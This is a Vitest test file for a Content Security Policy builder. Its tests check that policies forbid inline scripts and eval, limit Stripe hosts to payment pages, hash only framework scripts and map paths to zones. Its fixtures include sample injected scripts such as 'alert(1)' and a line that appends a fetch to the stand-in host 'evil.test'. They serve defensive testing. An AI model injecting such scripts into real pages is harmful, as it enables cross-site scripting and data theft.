import { describe, expect, test } from 'vitest';
import { hashPolicy, noncePolicy, paymentPolicy } from './csp-policy.ts';
import { frameworkScripts } from './framework-scripts.ts';
import { zoneOf } from './zones.ts';

const REAL = { script: new URL('https://js.stripe.com'), api: new URL('https://api.stripe.com') };
const SANDBOX = { script: new URL('http://127.0.0.1:12111'), api: new URL('http://127.0.0.1:12111') };

describe('The policies', () => {
  test('never allow inline scripts, inline styles or evaluation', () => {
    for (const policy of [
      hashPolicy(["'sha256-x'"]),
      noncePolicy('n'),
      paymentPolicy('n', REAL),
      paymentPolicy('n', SANDBOX),
    ]) {
      expect(policy).not.toMatch(/unsafe-/);
      expect(policy).toMatch(/^default-src 'none'/);
      for (const shut of [
        "base-uri 'none'",
        "object-src 'none'",
        "frame-ancestors 'none'",
        "form-action 'self'",
        'report-uri /api/csp-report',
      ])
        expect(policy).toContain(shut);
    }
  });

  test('name Stripe’s hosts where a card is typed, and nowhere else', () => {
    expect(paymentPolicy('n', REAL)).toContain(
      'frame-src https://js.stripe.com https://*.js.stripe.com https://hooks.stripe.com',
    );
    expect(paymentPolicy('n', REAL)).toContain("connect-src 'self' https://api.stripe.com");
    expect(paymentPolicy('n', SANDBOX)).toContain('frame-src http://127.0.0.1:12111');
    expect(paymentPolicy('n', SANDBOX)).not.toContain('stripe.com');
    for (const policy of [hashPolicy([]), noncePolicy('n')]) expect(policy).not.toMatch(/stripe|frame-src/);
  });
});

describe('An inline script', () => {
  const NEXT =
    '<script>self.__next_f.push([1,"a\\"</b>"])</script><script id="x">(self.__next_f=self.__next_f||[]).push([0])</script>';

  test('of the framework is hashed', () =>
    expect(frameworkScripts(NEXT)).toMatchObject({
      hashes: [/^'sha256-/, /^'sha256-/].map(shape => expect.stringMatching(shape)),
      unknown: [],
    }));

  test.each([
    ['alert(1)'],
    ['self.__next_f.push([1,"a"]);alert(1)'],
    ['self.__next_f.push([1,"a"+alert(1)])'],
    ['(self.__next_f=self.__next_f||[]).push([0]);fetch("//evil.test")'],
  ])('of anybody else gets no hash: %s', script => {
    const { hashes, unknown } = frameworkScripts(`${NEXT}<script>${script}</script>`);
    expect([hashes.length, unknown]).toEqual([2, [script]]);
  });

  test('that is data needs none', () =>
    expect(frameworkScripts('<script type="application/ld+json">{"a":1}</script>')).toEqual({
      hashes: [],
      unknown: [],
    }));
});

test('A zone covers its pages and nothing that merely begins alike', () => {
  expect(
    ['/checkout', '/checkout/done', '/order/abc', '/admin/payments', '/prints', '/checkouts', '/'].map(zoneOf),
  ).toEqual(['payment', 'payment', 'nonce', 'nonce', 'cached', 'cached', 'cached']);
});
